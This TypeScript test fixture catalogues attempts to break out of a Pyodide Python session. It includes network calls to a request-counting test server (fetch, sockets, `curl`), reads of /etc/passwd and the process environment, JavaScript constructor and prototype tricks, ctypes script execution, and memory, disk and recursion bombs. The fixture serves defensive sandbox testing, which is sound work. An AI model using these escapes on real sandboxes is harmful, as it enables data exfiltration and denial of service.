/**
 * Ways out of a Python session, each tried in Node and in a real browser (escapes.test.ts, test/browser/repl.spec.ts).
 * After each: nothing has reached the server, nothing was printed that begins with LEAK, storage is as it was, the page
 * lives, and the session (the same or a rebuilt one) still computes. `{server}` is an address that counts its requests.
 */

export interface Escape {
  readonly name: string;
  readonly code: string;
  /** What the cell must end in: the error's type. */
  readonly raises?: string;
  /** The variables of before must be the same ones in the same interpreter. */
  readonly keeps?: true;
  /** It may break Python's own names for the cells after it, which then fail, each with an error. */
  readonly ruins?: true;
  /** It goes on, or may go on, until it is stopped: little time is given to it. */
  readonly endless?: true;
}

/** Every JavaScript object that Python holds, and the bridge itself. */
const proxies = `
import gc
from pyodide.ffi import JsProxy
def objects():
    seen, found, queue = set(), [], list(gc.get_objects())
    for o in queue:
        for item in [o] + (gc.get_referents(o) if type(o) in (dict, tuple, list) or type(o).__name__ in ('Bridge', 'function', 'cell') else []):
            if isinstance(item, JsProxy) and id(item) not in seen:
                seen.add(id(item)); found.append(item)
    return found
js_objects = objects()
assert js_objects, 'none found: the test is blind'
`;

const each = (...bodies: string[]) =>
  bodies.reduce(
    (code, body) =>
      `${code}\nfor o in js_objects:\n    try:\n        ${body.replaceAll('\n', '\n        ')}\n    except Exception: pass\n`,
    proxies,
  );

const quietly = (body: string) =>
  `try:\n    ${body.replaceAll('\n', '\n    ')}\nexcept Exception as e: print(type(e).__name__)\n`;

/** What an earlier escape has left must not be what stops this one. */
const emptied = `import os\nopened = []\nfor name in os.listdir('/tmp'): os.remove('/tmp/' + name)\n`;

export const escapes: readonly Escape[] = [
  // JavaScript by its modules
  {
    name: 'fetch through js',
    code: `import js\nprint('LEAK', js.fetch('{server}/a'))`,
    raises: 'PermissionError',
    keeps: true,
  },
  {
    name: 'from js import fetch',
    code: `from js import fetch\nprint('LEAK', fetch)`,
    raises: 'PermissionError',
  },
  {
    name: 'XMLHttpRequest',
    code: `from js import XMLHttpRequest\nx = XMLHttpRequest.new()\nx.open('GET', '{server}/b', False)\nx.send()\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'WebSocket',
    code: `from js import WebSocket\nWebSocket.new('{server}/c'.replace('http', 'ws'))\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'EventSource',
    code: `import js\njs.EventSource.new('{server}/d')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'sendBeacon',
    code: `import js\njs.navigator.sendBeacon('{server}/e', 'x')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'importScripts',
    code: `import js\njs.importScripts('{server}/f.js')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'a worker',
    code: `import js\njs.Worker.new('{server}/g.js')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'a shared worker',
    code: `import js\njs.SharedWorker.new('{server}/h.js')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'BroadcastChannel',
    code: `import js\njs.BroadcastChannel.new('lab').postMessage('x')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'postMessage of the worker',
    code: `import js\njs.postMessage('forged')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'IndexedDB',
    code: `import js\njs.indexedDB.open('escaped')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'caches',
    code: `import js\nawait js.caches.open('escaped')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'the private file system',
    code: `import js\nawait js.navigator.storage.getDirectory()\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'cookies and localStorage',
    code: `import js\njs.document.cookie = 'a=b'\njs.localStorage.setItem('a', 'b')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'pyodide_js',
    code: `import pyodide_js\nprint('LEAK', pyodide_js._module.HEAPU8)`,
    raises: 'PermissionError',
  },
  {
    name: 'pyodide_js._api',
    code: `from pyodide_js._api import scheduleCallback\nprint('LEAK', scheduleCallback)`,
    raises: 'PermissionError',
  },
  {
    name: 'mounting the host’s files',
    code: `import pyodide_js\npyodide_js.mountNodeFS('/mnt', '/')\nimport os\nprint('LEAK', os.listdir('/mnt'))`,
    raises: 'PermissionError',
  },
  {
    name: 'mountNativeFS',
    code: `from pyodide_js import mountNativeFS\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'loadPackage',
    code: `import pyodide_js\nawait pyodide_js.loadPackage('{server}/numpy.whl')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'micropip',
    code: `import micropip\nawait micropip.install('{server}/x.whl')\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'the package loader',
    code: `import pyodide._package_loader as p\nprint('LEAK', p.loadedPackages)`,
    raises: 'PermissionError',
  },
  {
    name: 'run_js',
    code: `from pyodide.code import run_js\nprint('LEAK', run_js('1 + 1'))`,
    raises: 'PermissionError',
  },
  {
    name: 'pyfetch',
    code: `from pyodide.http import pyfetch\nprint('LEAK', await pyfetch('{server}/i'))`,
    raises: 'PermissionError',
  },
  {
    name: 'open_url',
    code: `from pyodide.http import open_url\nprint('LEAK', open_url('{server}/j').read())`,
    raises: 'PermissionError',
  },
  {
    name: 'requests made synchronous',
    code: `from pyodide.http.pyxhr import get\nprint('LEAK', get('{server}/k'))`,
    raises: 'PermissionError',
  },
  {
    name: 'modules loaded anew',
    ruins: true,
    code: `import sys, importlib\nfor name in ('js', 'pyodide_js', 'pyodide.http', 'pyodide.http._pyfetch', 'pyodide._run_js', 'pyodide.code', '_pyodide_core', 'pyodide.ffi'):\n    sys.modules.pop(name, None)\nfor name in ('js', 'pyodide_js', 'pyodide.http', 'pyodide._run_js'):\n    try:\n        m = importlib.import_module(name)\n        for attribute in ('fetch', 'pyfetch', 'eval', 'run_js', '_module'):\n            f = getattr(m, attribute, None)\n            if f is None: continue\n            print('had', name, attribute)\n            print('LEAK', f('{server}/l'))\n    except Exception as e: print(type(e).__name__, name)`,
  },
  {
    name: 'the import hook',
    code: `import sys\nfor finder in sys.meta_path:\n    for name, proxy in getattr(finder, 'jsproxies', {}).items():\n        print('LEAK', name, proxy)`,
  },
  {
    name: 'registering a module',
    code: `from pyodide.ffi import register_js_module\nregister_js_module('mine', None)\nprint('LEAK')`,
    raises: 'PermissionError',
  },
  {
    name: 'to_js',
    code: `from pyodide.ffi import to_js\nprint('LEAK', to_js([1]).constructor)`,
    raises: 'PermissionError',
  },

  // JavaScript by the objects that Python holds
  { name: 'constructor of every object', code: each(`print('LEAK', o.constructor)`), keeps: true },
  {
    name: 'constructor of the constructor',
    code: each(`f = o.constructor.constructor('return fetch("{server}/m")')\nprint('LEAK', f())`),
  },
  {
    name: 'functions of all kinds',
    code: each(
      `for g in (o.constructor, o.call.constructor, o.__proto__.constructor, o.prototype.constructor):\n    print('LEAK', g('return globalThis')())`,
    ),
  },
  { name: '__proto__ of every object', code: each(`print('LEAK', getattr(o, '__proto__'))`) },
  {
    name: 'poisoned prototypes',
    code: each(
      `o.__proto__.call = print\nprint('LEAK')`,
      `setattr(o, 'then', print)\nprint('LEAK')`,
      `delattr(o, 'call')\nprint('LEAK')`,
    ),
  },
  {
    name: 'getters and setters',
    code: each(
      `print('LEAK', o.__lookupGetter__('__proto__'))`,
      `o.__defineGetter__('x', lambda: print('LEAK'))`,
    ),
  },
  {
    name: 'entries of every object',
    code: each(`found = list(o.object_entries())\nif found: print('LEAK', found)`),
  },
  {
    name: 'objects as maps',
    code: each(
      `m = o.as_py_json()\nprint('LEAK', m['constructor'])`,
      `m = o.as_object_map()\nfor k in m: print('LEAK', k)`,
    ),
  },
  { name: 'new on every object', code: each(`print('LEAK', o.new('return 1'))`) },
  {
    name: 'dir of every object',
    code: each(
      `found = [n for n in dir(o) if n in ('constructor', 'apply', 'bind', 'postMessage', 'fetch')]\nif found: print('LEAK', found)`,
    ),
  },
  {
    name: 'the port behind the bridge',
    code: each(
      `for name in ('port', 'ports', 'line', 'post', 'postMessage', 'onmessage', 'target', 'currentTarget', 'caller', 'callee', 'arguments'):\n    print('LEAK', getattr(o, name))`,
    ),
  },
  {
    name: 'replies that are forged',
    code: each(`o('{"ok": true, "value": "forged"}', lambda *a: print('LEAK'))`),
  },
  {
    name: 'JavaScript exceptions',
    code: `${proxies}\nfor o in js_objects:\n    try: o(o, o, o)\n    except Exception as e:\n        for name in ('constructor', 'js_error', '__proto__'):\n            try: print('LEAK', getattr(e, name).constructor)\n            except AttributeError: pass`,
  },

  // Python's own ways to a network or a host
  {
    name: 'urllib',
    code: quietly(
      `import urllib.request\nprint('LEAK', urllib.request.urlopen('{server}/n', timeout=2).read())`,
    ),
  },
  {
    name: 'http.client',
    code: quietly(
      `import http.client\nhost = '{server}'.split('//')[1]\nc = http.client.HTTPConnection(host, timeout=2)\nc.request('GET', '/o')\nprint('LEAK', c.getresponse().status)`,
    ),
  },
  {
    name: 'socket',
    code: quietly(
      `import socket\nhost, port = '{server}'.split('//')[1].split(':')\ns = socket.create_connection((host, int(port)), 2)\ns.sendall(b'GET /p HTTP/1.0\\r\\n\\r\\n')\nprint('sent', s.recv(10))`,
    ),
  },
  {
    name: 'a datagram',
    code: quietly(
      `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('127.0.0.1', int('{server}'.split(':')[-1])))`,
    ),
  },
  {
    name: 'asyncio streams',
    code: quietly(
      `import asyncio\nhost, port = '{server}'.split('//')[1].split(':')\nr, w = await asyncio.wait_for(asyncio.open_connection(host, int(port)), 2)\nw.write(b'GET /q HTTP/1.0\\r\\n\\r\\n')\nprint('LEAK', await r.read(10))`,
    ),
  },
  { name: 'webbrowser', code: quietly(`import webbrowser\nif webbrowser.open('{server}/r'): print('LEAK')`) },
  { name: 'os.system', code: quietly(`import os\nif os.system('curl {server}/s') == 0: print('LEAK')`) },
  {
    name: 'subprocess',
    code: quietly(`import subprocess\nprint('LEAK', subprocess.run(['ls', '/'], capture_output=True))`),
  },
  {
    name: 'fork and exec',
    code:
      quietly(`import os\npid = os.fork()\nprint('LEAK', pid)`) +
      quietly(`import os\nos.execv('/bin/ls', ['ls'])\nprint('LEAK')`),
  },
  {
    name: 'multiprocessing',
    code: quietly(
      `import multiprocessing\np = multiprocessing.Process(target=print)\np.start()\nprint('LEAK')`,
    ),
  },
  {
    name: 'threads',
    code: quietly(
      `import threading\nt = threading.Thread(target=lambda: print('LEAK'))\nt.start()\nt.join(1)`,
    ),
  },
  {
    name: 'the host’s files',
    code: `import os, glob\nfound = [p for p in ('/etc/passwd', '/etc/hostname', '/proc/self/environ', '/proc/self/cmdline', '/root', '/usr/bin', '/var/log') if os.path.exists(p)]\nif found: print('LEAK', found)\nif glob.glob('/**/package.json', recursive=True): print('LEAK')`,
  },
  {
    name: 'the host’s environment',
    code: `import os\nfound = [k for k in os.environ if k in ('PATH', 'NODE_ENV', 'npm_config_registry', 'HOSTNAME', 'SHELL')]\nprint(dict(os.environ))\nif any('/usr/' in os.environ[k] for k in found): print('LEAK')`,
  },
  {
    name: 'reading a device',
    code:
      quietly(`print(len(open('/dev/tty').read(10)))`) +
      quietly(`print(repr(input('LEAKED? '))[:20])`).replace('LEAKED', 'answer'),
  },

  // C
  {
    name: 'ctypes runs a script',
    code: quietly(
      `import ctypes\nlib = ctypes.CDLL(None)\nlib.emscripten_run_script(b"globalThis.fetch && fetch('{server}/t')")`,
    ),
  },
  {
    name: 'ctypes asks for a file',
    code: quietly(`import ctypes\nlib = ctypes.CDLL(None)\nlib.emscripten_wget(b'{server}/u', b'/tmp/u')`),
  },
  {
    name: 'ctypes asks for a string',
    code: quietly(
      `import ctypes\nlib = ctypes.CDLL(None)\nf = lib.emscripten_run_script_string\nf.restype = ctypes.c_char_p\nprint('LEAK', f(b"'' + typeof fetch"))`,
    ),
  },
  {
    name: 'ctypes opens a WebSocket',
    code: quietly(`import ctypes\nlib = ctypes.CDLL(None)\nprint(lib.emscripten_websocket_is_supported())`),
  },
  {
    name: 'ctypes makes a worker',
    code: quietly(
      `import ctypes\nlib = ctypes.CDLL(None)\nprint(lib.emscripten_create_worker(b'{server}/v.js'))`,
    ),
  },
  {
    name: 'ctypes writes everywhere',
    endless: true,
    code: `import ctypes\nctypes.memset(1024, 0xff, 20_000_000)\nprint('still here')`,
  },
  { name: 'ctypes jumps nowhere', code: `import ctypes\nctypes.CFUNCTYPE(None)(0xdead)()` },
  { name: 'a null pointer', code: `import ctypes\nctypes.string_at(0xfffffff0, 100000)` },

  // The session's own modules
  {
    name: 'the bridge by the collector',
    ruins: true,
    code: `import gc\nb = next(o for o in gc.get_objects() if type(o).__name__ == 'Bridge')\nb.call = None\nb.write('stdout', 'LEAK' if b._write is None else 'ok')`,
  },
  {
    name: 'calls that mean nothing',
    code: `import gc\nb = next(o for o in gc.get_objects() if type(o).__name__ == 'Bridge')\nfor text in ('', 'null', '[]', '{"kind": "eval"}', '{"kind": "tool", "name": "constructor", "args": [], "kwargs": {}}', '{"__proto__": {"kind": "final"}}'):\n    print(b.call(text)[:80])`,
  },
  {
    name: 'lab_session overwritten',
    ruins: true,
    code: `import lab_session, sys\nfor name in list(vars(lab_session)):\n    if not name.startswith('__'):\n        try: setattr(lab_session, name, None)\n        except Exception: pass`,
  },
  { name: 'sys.modules emptied', ruins: true, code: `import sys\nsys.modules.clear()` },
  {
    name: 'builtins overwritten',
    ruins: true,
    code: `import builtins\nfor name in ('print', 'len', 'isinstance', 'repr', 'str', 'compile', 'exec', '__import__', 'BaseException'):\n    setattr(builtins, name, None)`,
  },
  {
    name: 'the JSON module overwritten',
    ruins: true,
    code: `import json\njson.dumps = lambda *a, **k: '{"status": "ok", "stdout": "LEAK by hand", "final": 1}'`,
  },
  {
    name: 'a __del__ at the end',
    code: `class D:\n    def __del__(self): raise SystemExit('late')\nd = D()\ndel d`,
  },
  { name: 'sys.exit', code: `import sys\nsys.exit(3)`, keeps: true },
  { name: 'os._exit', code: `import os\nos._exit(3)` },
  { name: 'os.abort', code: `import os\nos.abort()` },
  {
    name: 'a signal to itself',
    code:
      quietly(`import os, signal\nos.kill(os.getpid(), signal.SIGKILL)`) +
      quietly(`import signal\nsignal.raise_signal(signal.SIGTERM)`),
  },
  { name: 'faulthandler', code: quietly(`import faulthandler\nfaulthandler._sigsegv()`) },
  { name: 'atexit', code: `import atexit\natexit.register(lambda: print('LEAK'))` },

  // Time and space
  { name: 'an endless loop', endless: true, code: `while True: pass` },
  {
    name: 'a loop that catches the interrupt',
    endless: true,
    code: `while True:\n    try:\n        while True: pass\n    except BaseException: pass`,
  },
  { name: 'time.sleep', endless: true, code: `import time\ntime.sleep(1000)` },
  { name: 'a sleep that is awaited', endless: true, code: `import asyncio\nawait asyncio.sleep(1000)` },
  {
    name: 'a promise that never comes',
    endless: true,
    code: `import asyncio\nawait asyncio.get_event_loop().create_future()`,
  },
  {
    name: 'a slow regular expression',
    endless: true,
    code: `import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')`,
  },
  { name: 'a huge power', endless: true, code: `x = 10 ** 10 ** 8` },
  { name: 'endless output', code: `while True: print('x' * 1000)` },
  {
    name: 'endless output past Python',
    endless: true,
    code: `import os\nwhile True: os.write(1, b'x' * 10000)`,
  },
  {
    name: 'endless output by the bridge',
    endless: true,
    code: `import gc\nb = next(o for o in gc.get_objects() if type(o).__name__ == 'Bridge')\nwhile True: b.write('stdout', 'x' * 10000)`,
  },
  { name: 'one huge line', code: `print('x' * 50_000_000)` },
  { name: 'a gigabyte of text', code: `x = 'a' * 10 ** 9`, raises: 'MemoryError', keeps: true },
  { name: 'a bomb of lists', code: `x = []\nwhile True: x.append([0] * 100_000)` },
  { name: 'a bomb of text in a dict', code: `x = {}\ni = 0\nwhile True:\n    x[i] = str(i) * 1000; i += 1` },
  {
    name: 'a decompression bomb',
    code: `import zlib\nx = b'\\0' * 10 ** 7\nfor _ in range(3): x = zlib.compress(x) * 1\ny = zlib.decompressobj()\nx = bytearray(10 ** 9)`,
    raises: 'MemoryError',
  },
  {
    name: 'files in memory',
    code: `${emptied}i = 0\nwhile True:\n    with open(f'/tmp/f{i}', 'wb') as f: f.write(bytes(20_000_000))\n    i += 1`,
    raises: 'OSError',
    keeps: true,
  },
  {
    name: 'a file that grows',
    code: `${emptied}with open('/tmp/log', 'ab') as f:\n    while True: f.write(bytes(1_000_000))`,
    raises: 'OSError',
    keeps: true,
  },
  {
    name: 'a sparse file',
    code: `${emptied}f = open('/tmp/sparse', 'wb')\nf.seek(10 ** 12)\nf.write(b'x')\nf.flush()`,
    raises: 'OSError',
    keeps: true,
  },
  {
    name: 'a file made long',
    code: `${emptied}f = open('/tmp/long', 'wb')\nos.ftruncate(f.fileno(), 2 ** 52)`,
    raises: 'OSError',
    keeps: true,
  },
  {
    name: 'files that nobody can name',
    code: `${emptied}opened = []\nwhile True:\n    f = open('/tmp/gone', 'wb', 0)\n    opened.append(f)\n    f.write(bytes(5_000_000))\n    os.remove('/tmp/gone')`,
    raises: 'OSError',
    keeps: true,
  },
  {
    name: 'a pipe that nobody reads',
    code: `${emptied}r, w = os.pipe()\ntry:\n    while True: os.write(w, bytes(1_000_000))\nfinally:\n    os.close(r)\n    os.close(w)`,
    raises: 'OSError',
    keeps: true,
  },
  {
    name: 'long names',
    code: `${emptied}i = 0\nwhile True:\n    os.symlink('x' * 10 ** 6, f'/tmp/l{i}')\n    i += 1`,
    raises: 'OSError',
    keeps: true,
  },
  { name: 'deep recursion', code: `def f(): return f()\nf()`, raises: 'RecursionError', keeps: true },
  {
    name: 'deep recursion without a limit',
    code: `import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n): return f(n + 1) + 1\nf(0)`,
  },
  {
    name: 'deep recursion in C',
    code: `import sys\nsys.setrecursionlimit(10 ** 9)\nclass A:\n    def __repr__(self): return repr(self)\nrepr(A())`,
  },
  { name: 'deep JSON', code: `import json\njson.loads('[' * 10 ** 6)` },
  { name: 'deep literals', code: `import ast\nast.literal_eval('(' * 10 ** 5 + ')' * 10 ** 5)` },
  { name: 'a deep regular expression', code: `import re\nre.compile('(' * 10 ** 4 + ')' * 10 ** 4)` },
  { name: 'deep attribute chains', code: `x = None\nfor _ in range(10 ** 6): x = (x,)\ndel x` },
];
